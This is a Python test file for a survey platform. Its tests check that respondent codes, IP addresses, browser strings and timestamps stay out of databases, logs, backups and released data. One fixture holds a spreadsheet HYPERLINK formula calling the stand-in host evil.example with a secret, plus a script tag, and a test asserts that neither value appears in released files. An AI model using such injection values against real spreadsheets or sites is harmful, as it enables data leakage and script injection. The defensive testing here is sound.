"""Raw files, logs and backups read as an adversary would: no address, browser, time or code beside an answer; after the freeze, not the order either."""

from __future__ import annotations

import re
import shutil
import sqlite3
import subprocess
import sys
import time
import zipfile
from contextlib import closing
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from royst.collect import sealed
from royst.errors import InputError
from royst.evaluation import freeze, release, serve
from royst.study import folder
from royst.web import server
from royst.web.respond import offline

from .conftest import ASKING, WAVE, Cluster, Person, Running, empty, set_up

AGENT, ADDRESS = b"Findable Browser", b"127.0.0.1"


def raw(*folders: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for place in folders for path in sorted(place.rglob("*")) if path.is_file()}


def times(since: float, until: float) -> list[re.Pattern[bytes]]:
    """How a moment of the test would look as text."""
    day = time.strftime("%Y-%m-%d", time.gmtime(since)).encode()
    common = str(int(since))
    same = next(place for place in range(10, 0, -1) if common[:place] == str(int(until))[:place])
    return [
        re.compile(re.escape(day)),
        re.compile(rb"(?<!\d)" + common[: max(same, 7)].encode() + rb"\d{%d}" % (10 - max(same, 7))),
    ]


def binary_times(content: bytes, since: float, until: float) -> list[int]:
    """Places where eight bytes are a moment of the test: in seconds, thousandths, millionths or billionths, in millionths as PostgreSQL counts them (from 2000), or as a
    floating-point number of seconds or of days."""
    spans = [(since * unit, until * unit) for unit in (1, 1e3, 1e6, 1e9)] + [((since - 946_684_800) * 1e6, (until - 946_684_800) * 1e6)]
    days = [(since, until), (since / 86400 + 2440587.5, until / 86400 + 2440587.5)]
    found: list[int] = []
    for start in range(8):
        part = content[start : start + (len(content) - start) // 8 * 8]
        for kind, wanted in (("<i8", spans), (">i8", spans), ("<f8", days), (">f8", days)):
            values = np.frombuffer(part, dtype=kind)
            for low, high in wanted:
                found += [start + 8 * int(place) for place in np.flatnonzero((values >= low) & (values <= high))]
    return found


def people(running: Running, count: int) -> tuple[list[str], list[int]]:
    """So many people answer the short form, half of them by a personal code. Their codes (access and private) and their ages in order of arrival."""
    codes = running.codes(count // 2) + running.codes(many=True) * (count - count // 2)
    ages, privates = [], []
    for number, code in enumerate(codes):
        person = Person(running)
        age = 18 + (number * 37) % 83
        person.begin(code, "short")
        privates.append(person.cookies["fill"])
        person.answer_all(
            lambda item, choices, age=age, number=number: (
                [str(age)] if not choices else [choices[number % len(choices)]]
            )
        )
        person.press("go")
        assert person.at == "/thanks"
        ages.append(age)
    left = Person(running)
    left.begin(codes[-1])
    left.press("next")
    left.press("next", "woman")
    privates.append(left.cookies["fill"])
    return [*codes, *privates], ages


def assert_clean(
    files: dict[Path, bytes], codes: list[str], since: float, until: float, *, binary: bool = True
) -> None:
    for path, content in files.items():
        for code in codes:
            assert code.encode() not in content and code.lower().encode() not in content, path
        for said in (AGENT, ADDRESS, b"person_age", b"satisfied"):
            assert said not in content, (path, said)
        for pattern in times(since, until):
            assert not pattern.search(content), (path, pattern)
        assert not binary or not binary_times(content, since, until), path


def test_during_fieldwork_nothing_ties_an_answer_and_after_the_freeze_not_its_order(
    written: Path, tmp_path: Path
) -> None:
    running = set_up(written, tmp_path)
    since = time.time()
    running.start()
    codes, ages = people(running, 24)
    with pytest.raises(InputError, match="still asks"):
        server.freeze(running.root, WAVE, *running.shares)
    Person(running).go("/e/" + codes[0] + "?probe=1")
    files = raw(running.home)
    assert {path.name for path in files} >= {"answers.sqlite", "answers.sqlite-wal", "codes.sqlite", "public.key"}
    assert_clean(files, codes, since, time.time())
    running.end()
    logs = "".join(running.logged).encode()
    assert logs and not any(code.encode() in logs for code in codes) and AGENT not in logs and b"/q/" not in logs
    assert_clean(raw(running.home), codes, since, time.time())
    no_common_values(running)
    units = serve.prepare(running.root, WAVE).units
    answers = b"".join(content for path, content in files.items() if path.name.startswith("answers"))
    assert not any(f'"{unit}"'.encode() in answers for unit in units)

    lines = server.freeze(running.root, WAVE, *running.shares)
    assert any("24 of 24 rows" in line for line in lines)
    assert {path.name for path in running.home.iterdir()} == {"public.key"}
    frame = pl.read_parquet(running.root / "waves" / WAVE / "answers.parquet")
    order = [ages.index(int(age)) for age in frame["person_age"].to_list()]
    assert sorted(order) == list(range(24)) and order != sorted(order)
    assert abs(rank_correlation(order)) < 0.6
    assert frame["id"].to_list() == [f"{WAVE}-{place:05d}" for place in range(1, 25)]


def rank_correlation(order: list[int]) -> float:
    n = len(order)
    return 1 - 6 * sum((place - rank) ** 2 for place, rank in enumerate(order)) / (n * (n * n - 1))


def no_common_values(running: Running) -> None:
    """No value of the store of codes stands in the store of answers."""
    with (
        sqlite3.connect(running.home / "codes.sqlite") as codes,
        sqlite3.connect(running.home / "answers.sqlite") as answers,
    ):
        one = {value for row in codes.execute("SELECT mark, holder FROM code") for value in row if value != bytes(32)}
        other = {row[0] for name in ("draft", "sealed", "done") for row in answers.execute(f"SELECT id FROM {name}")}
        columns = {
            row[1] for name in ("draft", "sealed", "done") for row in answers.execute(f"PRAGMA table_info({name})")
        }
    assert not one & other
    assert columns == {"id", "body", "box"}


def test_the_frozen_order_does_not_depend_on_the_order_of_arrival(written: Path, tmp_path: Path) -> None:
    found = []
    for name, turn in (("one", 1), ("other", -1)):
        running = set_up(written, tmp_path / name)
        (running.root.parent / "royst.key").write_text("ab" * 32, encoding="ascii")
        unit = serve.prepare(running.root, WAVE).units[0]
        public = serve.read_public(folder.read(running.root), WAVE)
        boxes = [
            sealed.seal(
                {"answers": {"person_age": float(18 + n), "respect": str(1 + n % 5)}, "unit": unit, "consent": "1"},
                public,
            )
            for n in range(30)
        ]
        freeze.freeze(running.root, WAVE, *running.shares, boxes[::turn], list)
        found.append((running.root / "waves" / WAVE / "answers.parquet").read_bytes())
    assert found[0] == found[1]


def test_postgresql_holds_no_more_and_nothing_after_the_freeze(written: Path, tmp_path: Path, cluster: Cluster) -> None:
    empty(cluster)
    running = set_up(written, tmp_path, cluster.address)
    since = time.time()
    running.start()
    codes, ages = people(running, 12)
    running.end()
    until = time.time()
    import psycopg

    with psycopg.connect(cluster.address, autocommit=True) as connection:
        boxes = [bytes(row[0]) for row in connection.execute("SELECT box FROM sealed").fetchall()]
        tables = [row[0] for row in connection.execute("SELECT pg_relation_filepath(oid) FROM pg_class WHERE relname ~ '^(draft|sealed|done)'").fetchall()]
        connection.execute("CHECKPOINT")
    files = raw(cluster.folder / "base", cluster.folder / "pg_wal")
    assert any(boxes[0][:64] in content for content in files.values())
    dumped = subprocess.run([str(cluster.programs / "pg_dump"), cluster.address], capture_output=True, check=True).stdout
    assert b"sealed" in dumped
    seen = {**files, Path("pg_dump"): dumped, Path("postgres.log"): (cluster.folder.parent / "postgres.log").read_bytes(), Path("server's log"): "".join(running.logged).encode()}
    for path, content in seen.items():
        assert not any(code.encode() in content for code in codes), path
        assert AGENT not in content and b"person_age" not in content
    assert not binary_times(dumped, since, until) and not any(pattern.search(dumped) for pattern in times(since, until))
    for name in tables:
        assert not binary_times((cluster.folder / name).read_bytes(), since, until), name
    # What docs/threat-model.md says remains until the freeze: the log has the time of each commit.
    assert any(binary_times(content, since, until) for path, content in files.items() if path.parent.name == "pg_wal")

    code = "import sys; from pathlib import Path; from royst.web import server; print('\\n'.join(server.freeze(Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), Path(sys.argv[4]), postgres=sys.argv[5])))"
    done = subprocess.run(
        [sys.executable, "-c", code, str(running.root), WAVE, *map(str, running.shares), cluster.address], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "12 of 12 rows" in done.stdout
    left = raw(cluster.folder / "base", cluster.folder / "pg_wal")
    assert not [path for path, content in left.items() if any(box[:48] in content for box in boxes)]
    assert not [path for path, content in left.items() if binary_times(content, since, until)]
    frame = pl.read_parquet(running.root / "waves" / WAVE / "answers.parquet")
    order = [ages.index(int(age)) for age in frame["person_age"].to_list()]
    assert sorted(order) == list(range(12)) and order != sorted(order)


def test_a_backup_made_during_fieldwork_ties_nothing_and_says_nothing_of_the_frozen_rows(written: Path, tmp_path: Path) -> None:
    """A copy of the files, and SQLite's own backup: no code, time or browser; and no answer can be told from another by its box."""
    running = set_up(written, tmp_path)
    since = time.time()
    running.start()
    codes, _ = people(running, 10)
    backup = tmp_path / "backup"
    shutil.copytree(running.home, backup)
    with closing(sqlite3.connect(running.home / "answers.sqlite")) as one, closing(sqlite3.connect(backup / "own.sqlite")) as other:
        one.backup(other)
    running.end()
    assert_clean(raw(backup), codes, since, time.time())
    with closing(sqlite3.connect(backup / "own.sqlite")) as connection:
        boxes = [row[0] for row in connection.execute("SELECT box FROM sealed")]
    assert len(boxes) == 10 and len({len(box) for box in boxes}) == 1, "a box says nothing by its length"
    server.freeze(running.root, WAVE, *running.shares)
    frozen = (running.root / "waves" / WAVE / "answers.parquet").read_bytes()
    assert not any(box[place : place + 16] in frozen for box in boxes for place in range(0, len(box) - 16, 16))


def test_forged_boxes_are_counted_and_left_out(written: Path, tmp_path: Path) -> None:
    running = set_up(written, tmp_path)
    unit = serve.prepare(running.root, WAVE).units[0]
    public = serve.read_public(folder.read(running.root), WAVE)
    other, _, _ = sealed.key_pair()
    good = sealed.seal({"answers": {"person_age": 40.0}, "unit": unit, "consent": "1"}, public)
    forged = [
        sealed.seal({"answers": {"person_age": 41.0}, "unit": unit}, other), b"", b"\0" * 80, good[:-1] + bytes([good[-1] ^ 1]), sealed.seal({"answers": "no table"}, public),
        sealed.seal({"answers": {"person_age": 4000.0}, "unit": unit}, public), sealed.seal({"answers": {"respect": "9"}, "unit": unit}, public), sealed.seal({"answers": {"respect": "5"}, "unit": "nowhere"}, public),
    ]  # fmt: skip
    destroyed: list[str] = []
    lines = freeze.freeze(running.root, WAVE, *running.shares, [good, *forged], lambda: destroyed)
    assert any("5 boxes could not be opened" in line for line in lines)
    assert pl.read_parquet(running.root / "waves" / WAVE / "answers.parquet").height == 1


def test_a_freeze_needs_both_holders_and_writes_over_nothing(written: Path, tmp_path: Path) -> None:
    running = set_up(written, tmp_path)
    first, second = running.shares
    unit = serve.prepare(running.root, WAVE).units[0]
    box = sealed.seal(
        {"answers": {"person_age": 40.0}, "unit": unit, "consent": "1"},
        serve.read_public(folder.read(running.root), WAVE),
    )
    destroyed: list[str] = []

    def destroy() -> list[str]:
        destroyed.append("gone")
        return []

    (tmp_path / "other").mkdir()
    stranger = set_up(written, tmp_path / "other")
    for one, other in ((first, first), (first, stranger.shares[1]), (first, tmp_path / "nowhere")):
        with pytest.raises(InputError):
            freeze.freeze(running.root, WAVE, one, other, [box], destroy)
    with pytest.raises(InputError, match="nobody has answered"):
        freeze.freeze(running.root, WAVE, first, second, [], destroy)
    with pytest.raises(InputError, match="already"):
        freeze.make_keys(running.root, WAVE, tmp_path / "c", tmp_path / "d")
    assert not destroyed
    assert freeze.rehearse(running.root, WAVE, first, second)
    freeze.freeze(running.root, WAVE, first, second, [box], destroy)
    assert destroyed == ["gone"]
    with pytest.raises(InputError, match="answers already"):
        freeze.freeze(running.root, WAVE, first, second, [box], destroy)


def test_a_share_alone_says_nothing_and_a_slip_in_it_is_found() -> None:
    public, one, other = sealed.key_pair()
    assert sealed.joined(one, other, public) == sealed.joined(other, one, public)
    for place in range(len(one)):
        with pytest.raises(InputError):
            sealed.joined(one[:place] + ("0" if one[place] != "0" else "1") + one[place + 1 :], other, public)


SECRET = "Hemmeligordet"
FORMULA = f'=HYPERLINK("http://evil.example/{SECRET}") <script>alert("{SECRET}")</script>'


def ask_for_words(root: Path) -> None:
    """One more question, of free text, at the end of the last wave's form."""
    import openpyxl

    path = root / "waves" / WAVE / "questionnaire.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book["survey"]
    columns = {cell.value: cell.column for cell in sheet[1]}
    row = sheet.max_row + 1
    for column, said in {"type": "text", "name": "own_words", **{name: "Vil du si noe mer?" for name in columns if str(name).startswith("label")}}.items():
        sheet.cell(row, columns[column], said)
    book.save(path)


def words_of(folder: Path) -> dict[str, bytes]:
    """All that stands in a folder's files: what is packed is unpacked, PDFs as their text."""
    found: dict[str, bytes] = {}
    for path in sorted(folder.rglob("*")):
        if path.suffix in (".xlsx", ".docx", ".zip", ".qdpx"):
            with zipfile.ZipFile(path) as packed:
                found.update({f"{path}/{name}": packed.read(name) for name in packed.namelist()})
        elif path.suffix == ".parquet":
            found[str(path)] = str(pl.read_parquet(path).to_dict(as_series=False)).encode()
        elif path.suffix == ".pdf" and shutil.which("pdftotext"):
            found[str(path)] = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True).stdout
        elif path.is_file():
            found[str(path)] = path.read_bytes()
    return found


def test_a_wave_answered_on_the_web_goes_through_a_release(written: Path, tmp_path: Path) -> None:
    """Simulated people in 20 units answer by pages and by devices that were without the net; frozen, and released. What they wrote in their own words, markup and formulas
    among it, is kept as they wrote it and stands nowhere in what is released: not beside a place, nor at all."""
    import hashlib
    import http.client

    running = set_up(written, tmp_path, asking="free_text = true\n" + ASKING)
    ask_for_words(running.root)
    found = serve.prepare(running.root, WAVE)
    links = {unit: found.codes.issue(unit, many=True)[0] for unit in found.units}
    running.start()
    public, tickets = offline.Transport(found.derived("transport")).public, offline.Tickets(found.derived("tickets"))
    items = [item for item in found.asked if item.kind != "note"]
    connection = http.client.HTTPConnection("127.0.0.1", running.port, timeout=60)
    total = 0
    for place, (unit, link) in enumerate(links.items()):
        for number in range(8 + place % 9):
            who = hashlib.sha256(f"{unit} {number}".encode()).digest()
            answers = {
                item.name: (FORMULA if item.kind == "text" else str(18 + who[0] % 70))
                if item.scale is None
                else item.scale.names[who[1 + at % 30] % len(item.scale.names)]
                for at, item in enumerate(items)
                if who[at % 31] > 15
            }
            content = {
                "entry": tickets.closed(link),
                "token": who.hex()[:32],
                "answers": answers,
                "language": "nn",
                "consent": "2021-1",
            }
            connection.request("POST", "/take", offline.lock(content, public), {"Host": f"127.0.0.1:{running.port}"})
            reply = connection.getresponse()
            reply.read()
            assert reply.status == 200
            total += 1
    for link in list(links.values())[:3]:
        person = Person(running)
        person.begin(link)
        person.answer_all()
        person.press("go")
        total += 1
    running.end()
    lines = server.freeze(running.root, WAVE, *running.shares)
    assert any(f"{total} of {total} rows" in line for line in lines), lines
    name = next(name for name, part in folder.read(running.root).file.releases.items() if part.wave == WAVE)
    release.release(running.root, name, lambda text: None)
    assert (running.root / "releases" / name / "public" / "release.json").exists()
    frame = pl.read_parquet(running.root / "waves" / WAVE / "answers.parquet")
    assert set(frame["own_words"].drop_nulls()) == {FORMULA} and frame["own_words"].drop_nulls().len() > 30
    released = words_of(running.root / "releases" / name)
    assert len(released) > 20 and any("fornøyd".encode() in content for content in released.values())
    assert not [path for path, content in released.items() if SECRET.encode() in content or b"evil.example" in content]


def test_each_test_that_the_threat_model_names_is_there() -> None:
    here = Path(__file__).parent
    there = {path.stem for path in here.rglob("test_*.py")} | {name for path in here.parent.rglob("test_*.py") for name in re.findall(r"def (test_\w+)", path.read_text(encoding="utf-8"))}
    named = re.findall(r"`(test_\w+)(…?)`", (here.parents[2] / "docs" / "threat-model.md").read_text(encoding="utf-8"))
    assert len(named) > 15
    missing = [name for name, cut in named if not (any(one.startswith(name) for one in there) if cut else name in there)]
    assert not missing
